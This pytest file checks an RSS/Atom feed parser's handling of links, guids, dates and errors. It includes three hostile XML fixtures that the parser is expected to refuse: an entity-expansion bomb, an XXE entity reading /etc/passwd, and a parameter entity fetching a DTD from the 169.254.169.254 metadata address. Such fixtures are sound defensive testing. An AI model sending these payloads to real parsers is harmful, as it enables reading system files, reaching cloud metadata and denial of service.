"""Tests for reading RSS 2.0, RSS 1.0 and Atom feeds, and refusing hostile XML."""

from __future__ import annotations

from datetime import date

import pytest

from tracewire.ingest import IngestError, parse_feed
from tracewire.ingest.feeds import parse_date

FEED_URL = "https://news.example.org/feeds/world.xml"

RSS2 = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>Example News &amp; Views</title>
  <link>https://news.example.org/</link>
  <item>
    <title>Vendor supplies cameras to city police</title>
    <link>/2024/03/cameras</link>
    <guid isPermaLink="false">example-news-4471</guid>
    <pubDate>Tue, 05 Mar 2024 10:00:00 +0000</pubDate>
    <description>&lt;p&gt;Northwind Optics will supply
      &lt;b&gt;200&lt;/b&gt; cameras.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Contract for drones questioned</title>
    <link>../2024/03/drones?ref=rss</link>
    <dc:date>2024-03-07T08:30:00Z</dc:date>
  </item>
  <item>
    <title>Permalink guid only</title>
    <guid>https://news.example.org/2024/03/permalink</guid>
  </item>
  <item>
    <title>Repeated item</title>
    <link>/2024/03/cameras-again</link>
    <guid isPermaLink="false">example-news-4471</guid>
  </item>
  <item><title>No link and no guid</title></item>
</channel>
</rss>
"""

RSS1 = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://watch.example.net/">
    <title>Procurement Watch</title>
    <link>https://watch.example.net/</link>
  </channel>
  <item rdf:about="https://watch.example.net/notices/88">
    <title>Tender awarded for licence-plate readers</title>
    <link>notices/88</link>
    <description>The city awarded the tender to an invented firm.</description>
    <dc:date>2023-11-20</dc:date>
  </item>
  <item rdf:about="https://watch.example.net/notices/89">
    <title>Second notice</title>
  </item>
</rdf:RDF>
"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example.com/sec/">
  <title type="text">Security Trade Notes</title>
  <entry>
    <title type="html">Face recognition &lt;em&gt;pilot&lt;/em&gt; extended</title>
    <id>tag:blog.example.com,2024:entry-12</id>
    <link rel="enclosure" href="/media/pilot.mp3" type="audio/mpeg"/>
    <link rel="alternate" type="text/html" href="posts/pilot-extended"/>
    <published>2024-01-15T09:00:00+01:00</published>
    <updated>2024-02-01T00:00:00Z</updated>
    <summary>The police force extended its pilot.</summary>
  </entry>
  <entry xml:base="https://mirror.example.com/archive/">
    <title>Entry without id</title>
    <link href="old/7"/>
    <updated>2023-06-30T12:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
      <p>Cameras <b>sold</b>.</p></div></content>
  </entry>
</feed>
"""


def test_rss2_items_with_relative_links_guids_and_dates() -> None:
    feed = parse_feed(RSS2, FEED_URL)
    assert feed.title == "Example News & Views"
    first, second, third = feed.items
    assert first.key == "example-news-4471"
    assert first.url == "https://news.example.org/2024/03/cameras"
    assert first.title == "Vendor supplies cameras to city police"
    assert first.published == date(2024, 3, 5)
    assert first.summary == "Northwind Optics will supply 200 cameras."
    # No guid: the resolved link is the key.
    assert second.key == second.url == "https://news.example.org/2024/03/drones?ref=rss"
    assert second.published == date(2024, 3, 7)
    # A permalink guid is the link too.
    assert third.key == third.url == "https://news.example.org/2024/03/permalink"
    assert third.published is None


def test_rss1_items_keyed_by_rdf_about() -> None:
    feed = parse_feed(RSS1, "https://watch.example.net/rss")
    assert feed.title == "Procurement Watch"
    assert [item.key for item in feed.items] == [
        "https://watch.example.net/notices/88",
        "https://watch.example.net/notices/89",
    ]
    notice = feed.items[0]
    assert notice.url == "https://watch.example.net/notices/88"
    assert notice.published == date(2023, 11, 20)
    assert notice.summary == "The city awarded the tender to an invented firm."
    assert feed.items[1].url == "https://watch.example.net/notices/89"


def test_atom_entries_with_xml_base_alternate_links_and_text_types() -> None:
    feed = parse_feed(ATOM, "https://blog.example.com/feed.atom")
    assert feed.title == "Security Trade Notes"
    first, second = feed.items
    assert first.key == "tag:blog.example.com,2024:entry-12"
    assert first.url == "https://blog.example.com/sec/posts/pilot-extended"
    assert first.title == "Face recognition pilot extended"
    assert first.published == date(2024, 1, 15)  # published wins over updated
    assert first.summary == "The police force extended its pilot."
    assert second.key == second.url == "https://mirror.example.com/archive/old/7"
    assert second.published == date(2023, 6, 30)
    assert second.summary == "Cameras sold."


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<rss version="2.0"><channel><title>&d;</title></channel></rss>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title>
<item><title>&secret;</title><link>https://a.example/1</link></item></channel></rss>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>
"""


@pytest.mark.parametrize("data", [BOMB, XXE, PARAMETER_ENTITY], ids=["bomb", "xxe", "param"])
def test_feeds_declaring_entities_are_refused(data: bytes) -> None:
    with pytest.raises(IngestError) as caught:
        parse_feed(data, FEED_URL)
    message = str(caught.value)
    assert message.startswith(f"{FEED_URL}: refused feed: it declares XML entities")
    assert "root:" not in message


def test_a_plain_doctype_is_harmless_and_allowed() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old feed</title>
<item><title>One</title><link>https://old.example/1</link></item></channel></rss>
"""
    feed = parse_feed(data, FEED_URL)
    assert [item.url for item in feed.items] == ["https://old.example/1"]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<rss><channel><title>cut off", "malformed feed XML (no element found at line 1)"),
        (b"<rss>\n<channel></rss>", "malformed feed XML (mismatched tag at line 2)"),
        (b"<rss><channel><title>&nbsp;</title>", "malformed feed XML (undefined entity at line 1)"),
        (b"", "malformed feed XML (no element found at line 1)"),
        (b"<html><body>not a feed</body></html>", "not an RSS or Atom feed (root element <html>)"),
        (b"<rss version='2.0'></rss>", "malformed RSS feed (no <channel>)"),
    ],
)
def test_malformed_feeds_raise_one_line_errors(data: bytes, reason: str) -> None:
    with pytest.raises(IngestError) as caught:
        parse_feed(data, FEED_URL)
    assert str(caught.value) == f"{FEED_URL}: {reason}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Tue, 05 Mar 2024 10:00:00 GMT", date(2024, 3, 5)),
        ("5 Mar 2024 23:30:00 -0500", date(2024, 3, 5)),
        ("2024-03-05T10:00:00Z", date(2024, 3, 5)),
        ("2024-03-05T10:00:00.123+02:00", date(2024, 3, 5)),
        ("2024-03-05", date(2024, 3, 5)),
        ("yesterday", None),
        ("", None),
        (None, None),
    ],
)
def test_parse_date_reads_rfc822_and_iso8601(text: str | None, expected: date | None) -> None:
    assert parse_date(text) == expected


def test_a_relative_permalink_guid_is_a_link_against_the_feed() -> None:
    data = b"""<rss version="2.0"><channel><title>t</title>
<item><title>Relative</title><guid>/2024/05/relative</guid></item>
<item><title>Opaque</title><guid isPermaLink="false">item-77</guid></item>
</channel></rss>"""
    relative, opaque = parse_feed(data, FEED_URL).items
    assert relative.key == relative.url == "https://news.example.org/2024/05/relative"
    assert (opaque.key, opaque.url) == ("item-77", None)


def test_an_item_is_published_by_its_named_source_else_by_the_channel() -> None:
    rss = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Isle Wire Digest</title>
<item><title>Relayed</title><link>https://digest.example/1</link>
  <source url="https://harbour-ledger.example/rss">Harbour Ledger</source></item>
<item><title>Own story</title><link>https://digest.example/2</link></item>
</channel></rss>"""
    relayed, own = parse_feed(rss, FEED_URL).items
    assert (relayed.publisher, own.publisher) == ("Harbour Ledger", "Isle Wire Digest")
    atom = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">
<entry><id>e1</id><title>From elsewhere</title><link href="https://digest.example/3"/>
  <source><id>urn:tidewater</id><title>Tidewater Review</title></source></entry></feed>"""
    (entry,) = parse_feed(atom, FEED_URL).items
    assert entry.publisher == "Tidewater Review"  # a feed without a title names no other
